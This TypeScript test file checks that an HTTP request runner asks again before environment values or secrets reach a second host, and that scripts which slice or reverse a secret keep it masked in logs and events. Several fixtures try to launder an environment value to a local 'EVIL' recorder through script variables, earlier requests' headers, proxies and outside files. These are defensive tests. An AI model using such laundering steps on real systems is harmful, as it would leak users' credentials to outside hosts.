import assert from 'node:assert/strict';
import { memoryTokens, ScriptVariables, type Destination, type Host } from '../../src/runner/index.ts';
import { startRecorder, type Recorder } from '../support/recorder.ts';
import { sendRun, type SendOptions } from '../support/sendRun.ts';

const shown = ({ host, proxy, addresses, unchecked }: Destination): string =>
  [
    host,
    ...(proxy === undefined ? [] : [`proxy ${proxy.host}`]),
    ...(addresses ?? []).map((a) => `at ${a.host}`),
    ...(unchecked ? ['unchecked'] : []),
  ].join(' ');

describe('what may not go to every receiver', () => {
  let good: Recorder;
  let evil: Recorder;
  let asked: string[];

  beforeEach(async () => {
    [good, evil] = [await startRecorder(), await startRecorder()];
    asked = [];
  });
  afterEach(async () => {
    await good.close();
    await evil.close();
  });

  /** Sends the last request of a file. Only the host `good` may receive protected values. */
  function send(text: string, { host, ...more }: SendOptions = {}) {
    const goodHost = new URL(good.url).host;
    const may = (what: string, to: Destination | undefined): Promise<boolean> => {
      asked.push(`${what} to ${to === undefined ? 'a script' : shown(to)}`);
      return Promise.resolve(to?.host === goodHost);
    };
    const all: Partial<Host> = {
      env: (name) => (name === 'TOWN' ? 'Riga-0815' : name === 'REQ_SECRET_KEY' ? 'hush-4711' : undefined),
      secret: (name) => Promise.resolve(name === 'KEY' ? 'hush-4711' : undefined),
      maySendEnvironment: (names, _root, to) => may(names.join(), to),
      mayRead: (file, _root, to) => (file.startsWith('/ws/') ? Promise.resolve(true) : may(file, to)),
      readFile: (file) => Promise.resolve(file === '/outside/x.txt' ? Buffer.from('from outside') : undefined),
      ...host,
    };
    const filled = text.replaceAll('GOOD', good.url).replaceAll('EVIL', evil.url);
    return sendRun({ 'a.req': filled }, { host: all, ...more });
  }

  const evilHost = (): string => new URL(evil.url).host;

  for (const [how, text] of [
    [
      'a variable that a script of a skipped request has set',
      '### a\n# @name one\n< {%\n tool.setVar("x", tool.interpolate("{{$env.TOWN}}")); tool.skip();\n%}\nGET GOOD/\n\n### b\n# @ref one\nGET EVIL/{{x}}\n',
    ],
    [
      'what such a script has made of it',
      '### a\n# @name one\n< {%\n tool.setVar("x", [...tool.interpolate("{{$env.TOWN}}")].reverse().join("")); tool.skip();\n%}\nGET GOOD/\n\n### b\n# @ref one\nGET EVIL/{{x}}\n',
    ],
    [
      'the response that tool.send brings',
      '### a\n# @name one\nGET GOOD/{{$env.TOWN}}\n\n### b\n< {%\n const r = await tool.send("one"); tool.setVar("x", r.text.length);\n%}\nGET EVIL/{{x}}\n',
    ],
    [
      'a variable that a response script has set',
      '### a\n# @name one\nGET GOOD/{{$env.TOWN}}\n\n> {%\n tool.setVar("x", request.url.split("/").pop());\n%}\n\n### b\n# @ref one\nGET EVIL/{{x}}\n',
    ],
    [
      'the headers of a request that was sent before',
      '### a\n# @name one\nGET GOOD/\nX-Town: {{$env.TOWN}}\n\n### b\n# @ref one\nGET EVIL/{{one.request.headers.X-Town}}\n',
    ],
    [
      'the response of a request that was sent before',
      '### a\n# @name one\nGET GOOD/{{$env.TOWN}}\n\n### b\n# @ref one\nGET EVIL/{{one.response.status}}\n',
    ],
    [
      'a definition made from such a variable',
      '@y = {{x | base64}}\n\n### a\n# @name one\n< {%\n tool.setVar("x", tool.interpolate("{{$env.TOWN}}")); tool.skip();\n%}\nGET GOOD/\n\n### b\n# @ref one\nPOST EVIL/\n\n{{y}}\n',
    ],
  ] as const)
    it(`is asked for again for another host: a value of the environment in ${how}`, async () => {
      const { result } = await send(text);
      assert.equal(result.outcome, 'cancelled', JSON.stringify(result.failure));
      assert.equal(asked.at(-1), `TOWN to ${evilHost()}`);
      assert.deepEqual(evil.requests, []);
    });

  it('is asked for again in a later run that uses the variable', async () => {
    const variables = new ScriptVariables();
    await send('< {%\n tool.setVar("x", tool.interpolate("{{$env.TOWN}}"));\n%}\nGET GOOD/\n', { variables });
    const { result } = await send('GET EVIL/{{x}}\n', { variables });
    assert.equal(result.outcome, 'cancelled');
    assert.equal(asked.at(-1), `TOWN to ${evilHost()}`);
  });

  it('is asked for again for a body file that was allowed for another host', async () => {
    for (const use of ['one.request.body', 'one.response.status']) {
      const { result } = await send(`### a\n# @name one\nPOST GOOD/\n\n<@ /outside/x.txt\n\n### b\n# @ref one\nPOST EVIL/\n\n{{${use}}}\n`);
      assert.equal(result.outcome, 'cancelled', use);
      assert.equal(asked.at(-1), `/outside/x.txt to ${evilHost()}`);
    }
    assert.deepEqual(evil.requests, []);
  });

  it('is asked for with the host of the page to sign in', async () => {
    const opened: string[] = [];
    const files = {
      Type: 'OAuth2',
      'Grant Type': 'Authorization Code',
      'Auth URL': `${evil.url}/sign-in`,
      'Token URL': `${good.url}/token`,
      'Client ID': '{{$env.TOWN}}',
    };
    const open = ({ url }: { readonly url: string }): Promise<void> => Promise.reject(new Error(opened[opened.push(url) - 1]));
    const { result } = await sendRun(
      {
        'a.req': `# @auth oauth2 web\nGET ${good.url}/\n`,
        'http-client.env.json': JSON.stringify({ $shared: { Security: { Auth: { web: files } } } }),
      },
      {
        host: {
          env: () => 'Riga-0815',
          maySendEnvironment: (names, _root, to) => {
            asked.push(`${names.join()} to ${shown(to)}`);
            return Promise.resolve(to.host !== evilHost());
          },
          signIn: { tokens: memoryTokens(), open, mayRun: () => Promise.resolve(false) },
        },
      },
    );
    assert.equal(result.outcome, 'cancelled', JSON.stringify(result.failure));
    assert.deepEqual(asked, [`TOWN to ${new URL(good.url).host}`, `TOWN to ${evilHost()}`]);
    assert.deepEqual(opened, []);
  });

  it('is not asked for where nothing of it goes out', async () => {
    await send('### a\n# @name one\nGET GOOD/{{$env.TOWN}}\n\n### b\n# @ref one\nGET EVIL/\n');
    assert.deepEqual(asked, [`TOWN to ${new URL(good.url).host}`]);
    assert.equal(evil.requests.length, 1);
  });

  it('is asked for with the proxy, the addresses and the unchecked certificate on the way', async () => {
    const port = new URL(evil.url).port;
    await send(`# @proxy EVIL\nGET http://good.invalid/{{$env.TOWN}}\n`);
    await send(`# @resolve good.invalid:${port}:127.0.0.1\nGET http://good.invalid:${port}/{{$env.TOWN}}\n`);
    await send(`# @insecure\nGET https://good.invalid/{{$env.TOWN}}\n`);
    await send(`# @proxy EVIL\nPOST http://good.invalid/\n\n<@ /outside/x.txt\n`);
    assert.deepEqual(asked, [
      `TOWN to good.invalid proxy ${evilHost()}`,
      `TOWN to good.invalid:${port} at 127.0.0.1`,
      'TOWN to good.invalid unchecked',
      `/outside/x.txt to good.invalid proxy ${evilHost()}`,
    ]);
    assert.deepEqual(evil.requests, []);
  });
});

describe('a secret that a script takes apart', () => {
  let server: Recorder;
  let body: string;
  let type: string;
  beforeEach(async () => {
    body = 'plain';
    type = 'text/plain';
    server = await startRecorder(() => `HTTP/1.1 200 OK\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
  });
  afterEach(() => server.close());

  const host: Partial<Host> = {
    secret: (name) => Promise.resolve(name === 'KEY' ? 'hush-4711-canary' : undefined),
    env: (name) => (name === 'REQ_SECRET_KEY' ? 'hush-4711-canary' : undefined),
  };
  const send = (text: string, variables = new ScriptVariables()) =>
    sendRun({ 'a.req': text.replaceAll('URL', server.url) }, { host, variables }).then((run) => ({ ...run, variables }));

  const pieces =
    '{ const s = SECRET; tool.setVar("half", s.slice(0, 8)); tool.setVar("back", [...s].reverse().join("")); tool.setVar("one", 1); }';

  for (const [how, text] of [
    ['by tool.interpolate', `< {%\n${pieces.replace('SECRET', 'tool.interpolate("{{$secret.KEY}}")')}\n%}\nGET URL/\n`],
    ['by tool.getVar', `@k = {{$secret.KEY}}\n< {%\n${pieces.replace('SECRET', 'tool.getVar("k")')}\n%}\nGET URL/\n`],
    ['by tool.vars', `@k = {{$secret.KEY}}\n< {%\n${pieces.replace('SECRET', 'tool.vars().k')}\n%}\nGET URL/{{k}}\n`],
    [
      'by the request as it was sent',
      `GET URL/\nX-Key: {{$secret.KEY}}\n\n> {%\n${pieces.replace('SECRET', 'request.headers["X-Key"]')}\n%}\n`,
    ],
    ['by a response that holds it', `POST URL/\n\n{{$secret.KEY}}\n\n> {%\n${pieces.replace('SECRET', 'response.text.trim()')}\n%}\n`],
  ] as const)
    it(`is kept in variables that are secrets themselves: got ${how}`, async () => {
      if (how.includes('response')) body = 'hush-4711-canary';
      const { variables, events, result } = await send(text);
      assert.equal(result.failure, undefined);
      for (const name of ['half', 'back', 'one']) {
        assert.equal(variables.find(name)?.secret, true, name);
        assert.notEqual(variables.find(name)?.hides, undefined, name);
      }
      assert.equal(variables.find('half')?.value, 'hush-471');
      const reported = JSON.stringify(events, (_, v: unknown) => (v instanceof Map ? [...v] : v));
      assert.doesNotMatch(reported, /hush-471|yranac-1174/);
    });

  for (const field of ['data', 'event', 'id'])
    it(`is kept in variables that are secrets themselves: got by the ${field} of an event`, async () => {
      type = 'text/event-stream';
      body = `${field}: hush-4711-canary\ndata: x\n\n`;
      const { variables } = await send(
        `< {%\n tool.onEvent((e) => tool.setVar("half", e.${field}.slice(0, 8)));\n%}\nGET URL/\nX-Key: {{$secret.KEY}}\n`,
      );
      assert.deepEqual([variables.find('half')?.value, variables.find('half')?.secret], ['hush-471', true]);
    });

  it('is found again in the request that a script wrote it into piece by piece, and in no other header of it', async () => {
    const { variables } = await send(
      `### a\n# @name one\n< {%\n request.headers["X-Piece"] = tool.interpolate("{{$secret.KEY}}").slice(0, 2);\n%}\nGET URL/\nX-Plain: of-asking\n\n` +
        `### b\n# @ref one\n< {%\n tool.setVar("plain", tool.interpolate("{{one.request.headers.X-Plain}}"));\n tool.setVar("piece", tool.interpolate("{{one.request.headers.X-Piece}}"));\n%}\nGET URL/\n`,
    );
    assert.deepEqual([variables.find('plain')?.value, variables.find('plain')?.secret], ['of-asking', undefined]);
    assert.deepEqual([variables.find('piece')?.value, variables.find('piece')?.secret], ['hu', true]);
  });

  it('leaves variables alone that a script sets without a secret', async () => {
    const { variables } = await send(
      'GET URL/\nAuthorization: Bearer {{$secret.KEY}}\n\n> {%\n tool.setVar("x", response.text); tool.setVar("s", response.status);\n%}\n',
    );
    assert.equal(variables.find('x')?.secret, undefined);
    assert.equal(variables.find('x')?.hides, undefined);
    assert.equal(variables.find('s')?.value, 200);
  });

  it('is hidden in what the script writes into the request', async () => {
    const { events } = await send(
      `< {%\n const s = [...tool.interpolate("{{$secret.KEY}}")].reverse().join("");\n request.headers["X-Back"] = s; request.url = request.url + "?k=" + s.slice(3); request.body = JSON.stringify({ k: s.slice(0, 9) });\n%}\nPOST URL/\n\n{}\n`,
    );
    assert.match(server.requests[0]?.head ?? '', /X-Back: yranac-1174-hsuh/);
    const sending = events.find((e) => e.kind === 'sending');
    assert.doesNotMatch(JSON.stringify(sending), /yranac|nac-1174/);
  });

  it('is hidden in the same way as a value of REQ_SECRET_ in the environment', async () => {
    for (const written of ['{{$env.REQ_SECRET_KEY}}', '{{$processEnv REQ_SECRET_KEY}}']) {
      const { events } = await send(`GET URL/\nX-Key: ${written}\n`);
      assert.doesNotMatch(JSON.stringify(events), /hush-4711/, written);
    }
  });
});

describe('a host that wants to be asked for look-ups of scripts', () => {
  let server: Recorder;
  let asked: string[];
  beforeEach(async () => {
    server = await startRecorder();
    asked = [];
  });
  afterEach(() => server.close());

  const send = (text: string, may = true) =>
    sendRun(
      { 'a.req': text.replaceAll('URL', server.url) },
      {
        host: {
          secret: () => Promise.resolve('hush-4711-canary'),
          env: () => 'Riga-0815',
          mayLookUp: ({ what, line }) => {
            asked.push(`${what} ${line}`);
            return Promise.resolve(may);
          },
        },
      },
    );
  const prints =
    'console.log([...s].join(" ")); tool.test([...s].join("."), () => { throw new Error([...s].join("_")); }); tool.setVar("x", [...s]);';

  for (const [what, text] of [
    ['{{$secret.KEY}}', `< {%\n const s = tool.interpolate("{{$secret.KEY}}"); ${prints} tool.skip([...s].join(";"));\n%}\nGET URL/\n`],
    ['{{$env.TOWN}}', `< {%\n const s = tool.interpolate("{{$env.TOWN}}"); ${prints} throw new Error([...s].join("-"));\n%}\nGET URL/\n`],
    ['tool.getVar("k")', `@k = {{$env.TOWN}}\n< {%\n const s = tool.getVar("k"); ${prints}\n%}\nGET URL/\n`],
    ['request', `GET URL/\nX: {{$secret.KEY}}\n\n> {%\n const s = request.headers.X; ${prints}\n%}\n`],
  ] as const) {
    it(`asks for ${what}, and hides what the script prints, tests, sets and ends with`, async () => {
      const { events } = await send(text);
      assert.equal(asked.length, 1);
      assert.ok(asked[0]?.startsWith(what), asked[0]);
      const reported = JSON.stringify(events, (_, v: unknown) => (v instanceof Map ? [...v] : v)).replaceAll(/"source":"[^"]*"/g, '');
      assert.doesNotMatch(reported, /h.u.s.h|R.i.g.a|"h","u"|"R","i"/);
      assert.match(reported, /•••/);
    });
    it(`gives the script nothing of ${what} where it may not`, async () => {
      const { result } = await send(text, false);
      assert.match(result.failure?.message ?? '', /was not given to the script/);
    });
  }

  it('does not ask for look-ups that hold nothing of the kind', async () => {
    const { console: lines } = await send(
      '@k = v\n< {%\n console.log(tool.getVar("k"), tool.interpolate("{{k}}"), Object.keys(tool.vars()).length);\n%}\nGET URL/\n',
    );
    assert.deepEqual(asked, []);
    assert.deepEqual(lines, ['v v 1']);
  });

  it('shows a value of the environment nowhere, assertions included', async () => {
    const { tests, events } = await send('GET URL/\n\n?? status == {{$env.TOWN}}\n');
    assert.equal(tests.length, 1);
    assert.doesNotMatch(JSON.stringify(events), /Riga-0815/);
  });
});

describe('what a script makes of a secret', () => {
  it('is hidden where the variable goes out, and the same words elsewhere are not', async () => {
    const server = await startRecorder(() => 'HTTP/1.1 200 OK\r\nContent-Length: 13\r\n\r\nplain as ever');
    try {
      const variables = new ScriptVariables();
      const host: Partial<Host> = { secret: () => Promise.resolve('hush-4711-canary') };
      const sets = `< {%\n tool.interpolate("{{$secret.KEY}}"); tool.setVar("word", "plain"); tool.setVar("half", "hush-4711");\n%}\nGET ${server.url}/\n`;
      await sendRun({ 'a.req': sets }, { host, variables });
      assert.equal(variables.find('word')?.secret, true);
      const { console: lines } = await sendRun(
        { 'a.req': `GET ${server.url}/\n\n> {%\n console.log(response.text);\n%}\n` },
        { host, variables },
      );
      assert.deepEqual(lines, ['plain as ever']);
      const { events } = await sendRun({ 'a.req': `GET ${server.url}/?{{half}}\n` }, { host, variables });
      assert.doesNotMatch(JSON.stringify(events.filter((e) => e.kind === 'sending')), /hush-4711/);
    } finally {
      await server.close();
    }
  });
});
